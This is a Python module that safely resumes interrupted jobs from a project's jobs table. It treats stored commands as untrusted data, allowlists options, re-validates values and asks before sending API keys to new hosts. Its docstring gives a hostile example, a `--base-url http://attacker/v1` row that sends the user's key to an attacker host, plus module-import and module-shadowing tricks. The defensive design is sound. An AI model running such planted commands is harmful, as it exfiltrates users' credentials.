"""Resuming a job from the project's jobs table — which is data from the project folder, never code.

A project folder can come from anyone, and its `jobs` table holds whatever its sender wrote: a row shown as a
harmless interrupted job used to make the app's Resume run `rewrite … --base-url http://attacker/v1` (sending
the user's NVIDIA key there), any destructive command, a module import (`voices --classifier mod:callable`),
in a planted working folder that shadows modules. So a stored command is never run. Instead:
- only known kinds resume (`RESUMABLE`), each with the options it may carry — plain values (model names,
  modes, numbers, http(s) URLs), never a file to read or write, a module or a model folder;
- the stored argv is read as data against those options (exact names; anything else refuses the resume,
  naming it), every value is re-validated by the command's own parser (types, ranges, choices, URLs), and
  the command is rebuilt from the values alone, for the project folder open here (not the folder the row
  names), without the row's working folder;
- `ResumePlan` says what will run: the command, each host it talks to and which key it sends there. A key for
  a host not used on this machine needs the user's yes (the app's dialog, `spokenbench jobs --resume`'s
  prompt or `--yes`); approved hosts are kept per machine in the user's config folder (`ApprovedHosts`),
  never in the project. Hosts of the bundled model presets are known already."""

from __future__ import annotations

import argparse
import contextlib
import functools
import io
import json
import os
import stat
import sys
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

from spokenbench.core.foundation.credentials import PROVIDER_VARIABLES
from spokenbench.core.foundation.errors import SpokenBenchError
from spokenbench.core.foundation.user_dirs import config_dir
from spokenbench.core.jobs.registry import JobInfo

RESUMABLE_STATUSES = ("interrupted", "cancelled", "failed")
MAX_ARGS = 200
MAX_ARG_CHARS = 4_000
OUTPUT_ONLY = frozenset({"--json"})  # formatting of a detached process's output: dropped, not refused

# The SDKs' own hosts, for providers whose preset names none.
SDK_DEFAULT_HOSTS = {"openai": "api.openai.com", "gemini": "generativelanguage.googleapis.com"}


class ResumeRefused(SpokenBenchError):
    """The job cannot be resumed from the jobs table (unknown kind, an option that is not allowed, a bad value)."""


@dataclass(frozen=True)
class Endpoint:
    host: str
    url: str  # without credentials
    key: str | None  # the environment variable (or keyring entry) of the key sent there; None: no key


@dataclass(frozen=True)
class ResumePlan:
    job_id: int
    kind: str
    argv: list[str]  # after `spokenbench`, rebuilt from validated values
    endpoints: tuple[Endpoint, ...] = field(default=())

    def keys_to_new_hosts(self, approved: ApprovedHosts) -> list[Endpoint]:
        """Endpoints that would get a key although this machine has not used their host."""
        return [e for e in self.endpoints if e.key and not approved.knows(e.host)]

    def describe(self) -> str:
        """What will run, in words, for a confirmation."""
        lines = ["spokenbench " + " ".join(self.argv)]
        for endpoint in self.endpoints:
            key = f"sends {endpoint.key}" if endpoint.key else "sends no key"
            lines.append(f"talks to {endpoint.host} ({endpoint.url}); {key}")
        if not self.endpoints:
            lines.append("talks to no remote service")
        return "\n".join(lines)


@dataclass(frozen=True)
class _Kind:
    options: frozenset[str]  # options with a value
    flags: frozenset[str] = frozenset()  # options without one
    added: tuple[str, ...] = ()  # appended to the rebuilt command
    endpoints: object = None  # (argparse.Namespace) -> list[Endpoint]
    repeated: frozenset[str] = frozenset()  # options given more than once (`transcribe --asr A --asr B`)


_LIMITS = frozenset({"--concurrency", "--rpm", "--retries", "--timeout"})


def _host_endpoint(url: str | None, provider_default: str | None, key: str | None) -> Endpoint | None:
    from spokenbench.core.jobs.remote import strip_url_credentials

    url = url or (f"https://{provider_default}" if provider_default else None)
    if not url:
        return None
    host = (urlsplit(url).hostname or "").lower()
    if not host:
        raise ResumeRefused(f"no host in the endpoint {strip_url_credentials(url)!r}")
    return Endpoint(host, strip_url_credentials(url) or url, key)


def _model_endpoint(spec: str, base_url: str | None, convention: str | None) -> Endpoint | None:
    from spokenbench.core.evaluation.adapters import CREDENTIAL_PROVIDER, optional_key_variable
    from spokenbench.core.evaluation.presets import resolve_model

    preset = resolve_model(spec, base_url, convention)
    if preset.provider == "simulated":
        return None
    credential = CREDENTIAL_PROVIDER.get(preset.provider)
    key = PROVIDER_VARIABLES.get(credential) if credential else optional_key_variable(preset.provider)
    return _host_endpoint(preset.base_url, SDK_DEFAULT_HOSTS.get(preset.provider), key)


def evaluation_endpoints(args) -> list[Endpoint]:
    """The hosts an evaluation talks to and the key each gets, from its parsed arguments or its RunSettings (the
    same names)."""
    endpoints = [_model_endpoint(args.model, args.base_url, args.convention)]
    if args.mode == "pipeline" and args.asr and args.asr != "self":
        asr_provider = args.asr.partition(":")[0].strip().lower()
        model_provider = args.model.partition(":")[0].strip().lower()
        same_host = args.asr_base_url or (args.base_url if asr_provider == model_provider else None)
        endpoints.append(_model_endpoint(args.asr, same_host, None))
    return [e for e in endpoints if e is not None]


def _rewrite_endpoints(args: argparse.Namespace) -> list[Endpoint]:
    return [_host_endpoint(args.base_url, None, PROVIDER_VARIABLES.get(args.key_provider))]


def _transcription_endpoints(args: argparse.Namespace) -> list[Endpoint]:
    """Each --asr system's host and key. A local system resumes only as a bundled model (local:tiny.en): a model
    folder is a file the project's row names."""
    from spokenbench.core.asr.backends import BUNDLED_LOCAL_MODELS, parse_asr_spec
    from spokenbench.core.asr.context import CONTEXT_SUFFIX

    endpoints = []
    for text in args.asr or ():
        spec = parse_asr_spec(text)
        if spec.provider == "local":
            if spec.model.removesuffix(CONTEXT_SUFFIX) not in BUNDLED_LOCAL_MODELS:
                raise SpokenBenchError(f"--asr {_shown(text)} loads a model folder the project names")
            continue
        if spec.base_url and urlsplit(spec.base_url).scheme not in ("http", "https"):
            raise SpokenBenchError(f"--asr {_shown(text)}: an endpoint must be an http(s) URL")
        key = PROVIDER_VARIABLES.get(spec.provider)  # a compatible server gets none (core/asr/backends.py)
        endpoints.append(_host_endpoint(spec.base_url, SDK_DEFAULT_HOSTS.get(spec.provider), key))
    return endpoints


def _synthesis_endpoints(args: argparse.Namespace) -> list[Endpoint]:
    if args.tts not in ("gemini", "openai"):
        return []
    return [_host_endpoint(args.base_url, SDK_DEFAULT_HOSTS[args.tts], PROVIDER_VARIABLES[args.tts])]


RESUMABLE: dict[str, _Kind] = {
    "evaluate": _Kind(
        options=frozenset(
            "--model --base-url --convention --mode --prompt --system-prompt --orders --permutations --identifiers "
            "--languages --accents --voices --genders --speeds --volumes --snr --voice-source --voice-kind --kind "
            "--text --asr --asr-base-url --limit --option-count --max-audio-seconds --seed --thinking "
            "--max-output-tokens --temperature --tpm --budget --price-input --price-audio-input --price-output "
            "--run --name".split()
        )
        | _LIMITS,
        flags=frozenset({"--resume"}),
        added=("--resume",),
        endpoints=evaluation_endpoints,
    ),
    "rewrite": _Kind(
        options=frozenset("--model --base-url --key-provider --languages --source --limit --attempts".split())
        | _LIMITS,
        flags=frozenset({"--redo", "--retry-manual"}),
        endpoints=_rewrite_endpoints,
    ),
    "synthesize": _Kind(
        options=frozenset(
            "--tts --model --languages --accents --voices --parts --token-language --kinds --base-url".split()
        ),
        flags=frozenset({"--original-text"}),
        endpoints=_synthesis_endpoints,
    ),
    "assemble": _Kind(
        options=frozenset(
            "--orders --speed --volume --snr --chunk-seconds --languages --accents --voices --tts --token-language "
            "--rate --pause --format".split()
        ),
        flags=frozenset({"--no-labels"}),
    ),
    "transcribe": _Kind(
        options=frozenset({"--asr", "--languages"}) | _LIMITS,
        flags=frozenset({"--include-tokens"}),
        endpoints=_transcription_endpoints,
        repeated=frozenset({"--asr"}),
    ),
}
# Text-to-speech engines a resumed synthesis may use: the others load a model or references named by the project.
RESUMABLE_TTS = ("espeak", "gemini", "openai")


CLI_MODULE = "spokenbench.core.cli.main"


def resume_process_argv(plan: ResumePlan) -> list[str]:
    """The process that runs a resume plan: this Python, `-P` so no folder's modules shadow SpokenBench's."""
    return [sys.executable, "-P", "-m", CLI_MODULE, *plan.argv]


@functools.lru_cache(maxsize=1)
def _parser() -> argparse.ArgumentParser:
    from spokenbench.core.cli.main import build_parser

    return build_parser()


def plan_resume(job: JobInfo, project_dir: str | Path) -> ResumePlan:
    """The command that resumes `job` on the project open at `project_dir`, rebuilt from its re-validated
    values (see the module docstring). Raises ResumeRefused saying why it cannot be."""
    if job.status not in RESUMABLE_STATUSES:
        raise ResumeRefused(f"job {job.id} is {job.status}: only an interrupted, cancelled or failed job resumes")
    kind = RESUMABLE.get(job.kind)
    if kind is None:
        raise ResumeRefused(
            f"job {job.id} is a {_shown(job.kind)} job: only {', '.join(RESUMABLE)} jobs resume from here; "
            "start it again yourself"
        )
    stored = job.argv
    if not stored:
        raise ResumeRefused(f"job {job.id} was not started by a `spokenbench` command: start it again yourself")
    if (
        not isinstance(stored, list)
        or len(stored) > MAX_ARGS
        or not all(isinstance(arg, str) and len(arg) <= MAX_ARG_CHARS and "\x00" not in arg for arg in stored)
    ):
        raise ResumeRefused(f"job {job.id}'s stored command is not a list of short texts")
    if stored[0] != job.kind:
        raise ResumeRefused(f"job {job.id} is a {job.kind} job but its stored command is {_shown(stored[0])}")
    values, flags = _read_options(job.id, stored[1:], kind)
    tts = dict(values).get("--tts")
    if tts is not None and job.kind == "synthesize" and tts not in RESUMABLE_TTS:
        raise ResumeRefused(
            f"job {job.id} synthesizes with {_shown(tts)}, which loads files the project names: start it again yourself"
        )
    argv = [job.kind, str(Path(project_dir).resolve())]
    argv += [f"{option}={value}" for option, value in values]  # '=': a value never reads as an option
    argv += [flag for flag in sorted(flags) if flag not in kind.added]
    argv += list(kind.added)
    args = _validated(job.id, argv)
    try:
        endpoints = tuple(kind.endpoints(args)) if kind.endpoints else ()
    except SpokenBenchError as error:
        raise ResumeRefused(f"job {job.id} cannot be resumed: {error}") from None
    return ResumePlan(job.id, job.kind, argv, endpoints)


def _read_options(job_id: int, tokens: list[str], kind: _Kind) -> tuple[list[tuple[str, str]], set[str]]:
    """The stored command's options by exact name, in order, each at most once unless the kind repeats it; its
    one positional (the project folder it named) is dropped: the resumed job runs on the project open here."""
    values: list[tuple[str, str]] = []
    flags: set[str] = set()
    positionals = 0
    position = 0
    while position < len(tokens):
        token = tokens[position]
        position += 1
        if not token.startswith("-") or token == "-":
            positionals += 1
            if positionals > 1:
                raise ResumeRefused(f"job {job_id}'s stored command has an unexpected argument {_shown(token)}")
            continue
        name, has_value, value = token.partition("=")
        if name in OUTPUT_ONLY and not has_value:
            continue
        if name in kind.flags and not has_value:
            flags.add(name)
            continue
        if name not in kind.options:
            raise ResumeRefused(
                f"job {job_id}'s stored command has {_shown(name)}, which a resumed job may not carry: start it "
                "again yourself"
            )
        if not has_value:
            if position >= len(tokens):
                raise ResumeRefused(f"job {job_id}'s stored command gives {name} no value")
            value = tokens[position]
            position += 1
        if name not in kind.repeated and any(name == given for given, _ in values):
            raise ResumeRefused(f"job {job_id}'s stored command gives {name} twice")
        values.append((name, value))
    if positionals != 1:
        raise ResumeRefused(f"job {job_id}'s stored command names no project folder")
    return values, flags


def _validated(job_id: int, argv: list[str]) -> argparse.Namespace:
    """The rebuilt command through the CLI's own parser: every value's type, range and choices."""
    errors = io.StringIO()
    try:
        with contextlib.redirect_stderr(errors), contextlib.redirect_stdout(io.StringIO()):
            return _parser().parse_args(argv)
    except SystemExit:
        message = errors.getvalue().strip().splitlines()
        raise ResumeRefused(
            f"job {job_id}'s stored command is not valid: {message[-1] if message else 'refused by the parser'}"
        ) from None


def _shown(text: str) -> str:
    return repr(text[:80])


# --------------------------------------------------------------------------------------------------
# Hosts this machine has sent keys to


APPROVED_HOSTS_FILE = "approved_hosts.json"
MAX_APPROVED_BYTES = 1_000_000


@functools.lru_cache(maxsize=1)
def bundled_hosts() -> frozenset[str]:
    """Hosts of the bundled model presets, the SDKs' defaults and the rewriter's and ASR systems' defaults: known
    without asking."""
    from spokenbench.core.asr.backends import DEFAULT_BASE_URLS as ASR_DEFAULT_URLS
    from spokenbench.core.evaluation.presets import all_presets, provider_default_urls
    from spokenbench.core.rewriting.llm import DEFAULT_BASE_URL

    urls = [preset.base_url for preset in all_presets()]
    urls += provider_default_urls()
    urls.append(DEFAULT_BASE_URL)
    urls += ASR_DEFAULT_URLS.values()
    hosts = {(urlsplit(url).hostname or "").lower() for url in urls if url}
    return frozenset(hosts | set(SDK_DEFAULT_HOSTS.values())) - {""}


class ApprovedHosts:
    """The endpoint hosts the user has approved sending a key to, on this machine."""

    def __init__(self, path: Path | None = None):
        self.path = path or config_dir() / APPROVED_HOSTS_FILE

    def hosts(self) -> set[str]:
        try:
            info = self.path.stat()
            if not stat.S_ISREG(info.st_mode) or info.st_size > MAX_APPROVED_BYTES:
                return set()
            data = json.loads(self.path.read_text(encoding="utf-8"))
        except (OSError, ValueError):
            return set()
        hosts = data.get("hosts") if isinstance(data, dict) else None
        return {h.lower() for h in hosts if isinstance(h, str)} if isinstance(hosts, list) else set()

    def knows(self, host: str) -> bool:
        return host.lower() in bundled_hosts() or host.lower() in self.hosts()

    def approve(self, hosts: list[str]) -> None:
        """Remember `hosts` (written whole: a temp file renamed into place)."""
        known = self.hosts() | {h.lower() for h in hosts}
        self.path.parent.mkdir(parents=True, exist_ok=True)
        temp = self.path.with_name(f".{self.path.name}.{os.getpid()}.tmp")
        temp.write_text(json.dumps({"hosts": sorted(known)}, indent=1), encoding="utf-8")
        os.replace(temp, self.path)
